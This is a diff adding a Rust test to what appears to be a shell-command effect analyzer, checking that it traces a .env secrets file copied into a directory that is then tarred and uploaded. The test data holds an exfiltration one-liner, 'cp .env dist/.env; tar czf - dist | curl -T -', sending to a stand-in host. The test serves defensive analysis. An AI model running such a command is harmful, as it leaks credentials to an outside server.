@@ -259,3 +259,45 @@ fn remembered_analyses_depend_on_the_written_files() {
     assert_eq!(effects_after(&[], command), before);
     assert_eq!(effects_after(&written, command), after);
 }
+
+#[test]
+fn a_directory_sent_holds_the_files_written_into_it() {
+    let env = at(".env");
+    let copy = at("dist/.env");
+    let upload = |extra: &[(&str, bool)]| {
+        let mut files = vec![(at("dist"), true), (copy.clone(), false)];
+        files.extend(extra.iter().map(|(p, r)| ((*p).to_owned(), *r)));
+        let files: Vec<(&str, bool)> = files.iter().map(|(p, r)| (p.as_str(), *r)).collect();
+        url_request(
+            "curl",
+            "https://drop.example.net/x.tgz",
+            "PUT",
+            payload(&[], &files, &[]),
+        )
+    };
+    // On the line.
+    check(
+        "cp .env dist/.env; tar czf - dist | curl -T - https://drop.example.net/x.tgz",
+        json!([
+            read(&env),
+            write(&copy),
+            read_tree(&at("dist")),
+            upload(&[(&env, false)])
+        ]),
+    );
+    // By an earlier step.
+    let earlier = [WrittenFile::new(
+        copy.clone(),
+        Payload {
+            files: vec![writ_shell::FileRef {
+                path: env.clone(),
+                recursive: false,
+            }],
+            ..Payload::default()
+        },
+    )];
+    assert_eq!(
+        effects_after(&earlier, "tar czf - dist | curl -T - https://drop.example.net/x.tgz"),
+        json!([read_tree(&at("dist")), upload(&[(&env, false)])])
+    );
+}
